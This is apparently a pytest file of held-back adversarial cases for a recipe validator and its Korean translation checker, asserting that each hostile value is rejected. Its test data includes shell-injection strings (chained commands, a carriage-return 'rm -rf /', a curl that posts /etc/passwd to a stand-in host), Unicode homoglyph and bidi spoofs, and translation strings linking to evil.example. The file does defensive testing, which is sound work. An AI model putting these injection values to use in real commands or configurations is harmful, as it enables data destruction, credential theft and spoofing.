"""Round 3's held-back probes: cases of each class written before the checks were tuned to the
probes of test_hostile_round3.py, and run once against them (the report gives the figure); kept
here so the suite runs them from now on. Each case is refused with a located problem naming its
cause, or, for the controls, accepted."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys

import pytest

from recipe_support import REPO, check_mutated, shipped

GPT, AXK2 = "gpt-oss-120b", "A.X-K2"
LATENCY = "/strategies/0/options/0/grid"
PD = "/strategies/2/options/0/grid"


def grid(data, strategy: int = 0, target: int = 0) -> dict:
    return data["strategies"][strategy]["options"][target]["grid"]


def field(key, value):
    def mutate(data):
        data[key] = value

    return mutate


def arg(text):
    def mutate(data):
        grid(data)["base"][0]["args"]["--max-num-seqs"] = text

    return mutate


def launcher(text):
    def mutate(data):
        grid(data)["base"][0]["launcher"] = text

    return mutate


def step(cmd):
    def mutate(data):
        grid(data, 2)["router"]["nodes"].append({"node": "extra", "cmd": cmd})

    return mutate


def extra_role(name):
    def mutate(data):
        g = grid(data, 2)
        role = copy.deepcopy(g["base"][0])
        role.update(role=name, ranks=None, scale=None, varies=None)
        g["base"].append(role)

    return mutate


def text_en(added):
    def mutate(data):
        data["text"]["en"]["sub"] += added

    return mutate


def catalogue_axis(count):
    def mutate(data):
        data["axes"][0]["options"] += [{"value": f"x{i}", "label": f"X{i}"} for i in range(count)]

    return mutate


SEQS = f"{LATENCY}/base/0/args/--max-num-seqs"
# (recipe, mutation, pointer, fragment of the message); fragment None: a control, no problem there
CASES = {
    "1 or-list": (GPT, field("installLine", "pip install vllm-rbln || true"), "/installLine", "'|'"),
    "1 two commands": (GPT, field("client", "curl http://localhost:8000/v1/models -o x; id"), "/client", "';'"),
    "1 double-quoted home": (GPT, field("installLine", 'pip install "$HOME/x"'), "/installLine", "'$'"),
    "1 braces": (GPT, field("client", "curl http://localhost:8000/v1/{a,b}"), "/client", "'{'"),
    "1 carriage return": (GPT, field("installLine", "pip install x\rrm -rf /"), "/installLine", "carriage return"),
    "1 background": (GPT, field("client", "curl http://localhost:8000/v1/models &"), "/client", "'&'"),
    "1 process substitution": (GPT, field("client", "curl -d @<(cat /etc/passwd) http://h/"), "/client", "'<'"),
    "2 nohup": (GPT, launcher("nohup vllm serve"), f"{LATENCY}/base/0/launcher", "'nohup'"),
    "2 serve serve": (GPT, launcher("vllm serve serve"), f"{LATENCY}/base/0/launcher", "is not 'vllm serve'"),
    "2 escaped backslash control": (AXK2, step("echo done \\\\"), f"{PD}/router/nodes/2/cmd", None),
    "2 redirect placeholder": (AXK2, step("echo x > <EPP_HOST>"), f"{PD}/router/nodes/2/cmd", "<EPP_HOST>"),
    "2 single-rank collision": (AXK2, extra_role("prefill_rank0"), f"{PD}/base/2/role", "serve_prefill_rank0"),
    "4 lowercase hex reference": (GPT, text_en(" &#x202e;x"), "/text/en/sub", "U+202E"),
    "4 named reference": (GPT, text_en(" a&ZeroWidthSpace;b"), "/text/en/sub", "U+200B"),
    "4 greek omicron": (GPT, field("model", "openai/gpt-\u03bfss-120b"), "/model", "U+03BF GREEK SMALL LETTER OMICRON"),
    "4 devanagari digit": (GPT, arg("--max-num-seqs \u096b"), SEQS, "U+096B DEVANAGARI DIGIT FIVE"),
    "4 keycap": (GPT, arg("--max-num-seqs 8\u20e3"), SEQS, "U+20E3"),
    "4 cyrillic in hf": (GPT, field("hf", "https://huggingface.co/\u0430penai/gpt-oss-120b"), "/hf", "U+0430"),
    "4 typographic reference in prose control": (GPT, text_en(" 10&nbsp;GB &ndash; ok"), "/text/en/sub", None),
    "5 catalogue axis": (GPT, catalogue_axis(500), "/axes/0/options", "an axis offers at most"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_held_back_recipe_case(tmp_path, case):
    name, mutate, pointer, fragment = CASES[case]
    checked = check_mutated(tmp_path, name, mutate)
    here = [p for p in checked.problems if p.pointer == pointer]
    if fragment is None:
        assert here == [], here
    else:
        assert any(fragment in p.message for p in here), "\n".join(map(str, checked.problems))


def _validate(path):
    return subprocess.run(
        [sys.executable, "-m", "recipebook", "validate", str(path)],
        cwd=REPO,
        env={"PYTHONPATH": str(REPO / "_ext"), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_held_back_a_negative_number_of_many_digits(tmp_path):
    text = json.dumps(shipped(GPT), indent=2).replace('"axes"', '"x": -' + "1" * 150 + ', "axes"', 1)
    path = tmp_path / f"{GPT}.json"
    path.write_text(text, encoding="utf-8")
    result = _validate(path)
    assert result.returncode == 1 and "Traceback" not in result.stderr and "150 digits" in result.stderr


def test_held_back_a_long_mantissa(tmp_path):
    text = json.dumps(shipped(GPT), indent=2).replace('"axes"', '"x": 1.' + "0" * 200 + ', "axes"', 1)
    path = tmp_path / f"{GPT}.json"
    path.write_text(text, encoding="utf-8")
    result = _validate(path)
    assert result.returncode == 1 and "Traceback" not in result.stderr and "200 digits" in result.stderr


def test_held_back_a_symlink_to_a_fifo(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    link = tmp_path / "x.json"
    link.symlink_to(fifo)
    result = _validate(link)
    assert result.returncode == 2 and "a FIFO" in result.stderr  # an argument: exit 2 since round 4


@pytest.mark.parametrize(
    ("english", "translation", "fragment"),
    [
        ("Recipes", '레시피 <img src=\\"https://evil.example/p.png\\">', "HTML the English does not have"),
        ("Recipes", "레시피\u2066", "U+2066"),
        ("Recipes", "[레시피](//evil.example)", "//evil.example"),
        ("Recipes", "레\ufeff시피", "U+FEFF"),
        ("See https://docs.rbln.ai/", "https://docs.rbln.ai/ 참조", None),
    ],
)
def test_held_back_catalog_cases(english, translation, fragment):
    from recipebook_sphinx.i18n import po_check

    header = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: ko\\n"\n\n'
    found = po_check.check_text(header + f'msgid "{english}"\nmsgstr "{translation}"\n', "recipebook.po")
    if fragment is None:
        assert found == []
    else:
        assert any(fragment in p.message for p in found), found


def test_held_back_a_long_hangul_query_is_bounded():
    from test_hostile_round3 import MAX_QUERY, js_bounded

    (bounded,) = js_bounded(["가" * 50000 + " " + "나 " * 100])
    assert 0 < len(bounded) <= MAX_QUERY
